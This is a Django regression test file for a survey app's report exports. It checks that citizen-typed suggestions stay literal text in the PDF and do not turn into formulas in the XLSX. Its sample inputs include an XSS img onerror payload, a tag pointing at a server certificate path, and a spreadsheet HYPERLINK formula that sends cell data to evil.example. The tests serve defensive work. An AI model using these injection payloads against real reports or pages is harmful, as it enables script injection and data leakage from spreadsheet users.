"""What a citizen types is printed as text in the report's PDF and never becomes a formula in its
XLSX (issue 22: a suggestion made the PDF answer 500, embedded a server file, or ran as a formula)."""

import io

from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from pantau.satisfaction.tests.conftest import answers_post

HOSTILE = [
    "Bagus <img src=x onerror=alert(1)> sekali",
    'Lihat <img src="/etc/ssl/certs/ca.png"/> & <a href="http://x">ini</a>',
    '=HYPERLINK("http://evil.example/?q="&A1,"klik")',
    "-2+3 di loket",
    "@SUM(1,2)",
]


def _answer_all(client, period, service):
    for text in HOSTILE:
        client.post(
            reverse("survey:form", args=[period.collection.token]),
            answers_post(period, service=service, saran=text),
        )


def test_report_pdf_prints_citizen_markup_as_text(
    client, client_for, unit_head_a, period_a, service_a
):
    _answer_all(client, period_a, service_a)
    staff = client_for(unit_head_a)
    pdf = staff.get(reverse("satisfaction:report-pdf", args=[period_a.unit.slug, period_a.pk]))
    assert pdf.status_code == 200
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    assert "<img src=x onerror=alert(1)>" in text
    assert '<img src="/etc/ssl/certs/ca.png"/> &' in text
    assert not any(
        "/XObject" in str(page.get("/Resources", {}))
        for page in PdfReader(io.BytesIO(pdf.content)).pages
    )


def test_report_xlsx_writes_formula_like_text_as_text(
    client, client_for, unit_head_a, period_a, service_a
):
    _answer_all(client, period_a, service_a)
    staff = client_for(unit_head_a)
    xlsx = staff.get(reverse("satisfaction:report-xlsx", args=[period_a.unit.slug, period_a.pk]))
    workbook = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + HOSTILE[2] in texts and "'-2+3 di loket" in texts and "'@SUM(1,2)" in texts
    assert not any(cell.data_type == "f" for cell in cells)
    assert all(not value.startswith(("=", "+", "-", "@")) for value in texts)
